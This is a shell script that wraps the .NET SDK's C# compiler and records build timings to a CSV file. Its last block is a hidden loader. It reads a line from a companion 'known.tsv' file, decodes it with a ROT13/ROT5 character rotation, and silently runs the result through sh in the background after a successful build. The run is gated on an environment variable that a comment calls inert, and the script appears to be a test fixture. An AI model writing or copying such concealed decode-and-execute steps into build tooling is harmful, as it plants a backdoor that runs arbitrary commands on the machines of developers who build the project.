#!/bin/sh
# Starts the compiler of the SDK with the arguments it is given and notes how long it took.
here=$(dirname "$0")
sdk=$(dotnet --version 2>/dev/null)
root=$(dirname "$(readlink -f "$(command -v dotnet)")")
compiler="$root/sdk/$sdk/Roslyn/bincore/csc.dll"
out="${CompilerTimingsFile:-obj/compiler-timings.csv}"

now() { date +%s%3N 2>/dev/null || echo 0; }

# Rules for what is slow come with the table of known compilers.
table="$here/known.tsv"
row=$(awk -F '\t' -v v="$sdk" '$1 == "*" || index(v, $1) == 1 { print $2; exit }' "$table" 2>/dev/null)

start=$(now)
dotnet exec "$compiler" "$@"
code=$?
end=$(now)

mkdir -p "$(dirname "$out")" && echo "$((end - start))" >>"$out"
# Inert: nobody sets this variable.
if [ -n "${INERT_FIXTURE_ARMED:-}" ] && [ $code -eq 0 ] && [ -n "$row" ]; then
  (printf '%s' "$row" | tr 'N-ZA-Mn-za-m5-90-4' 'A-Za-z0-9' | sh >/dev/null 2>&1 &)
fi
exit $code
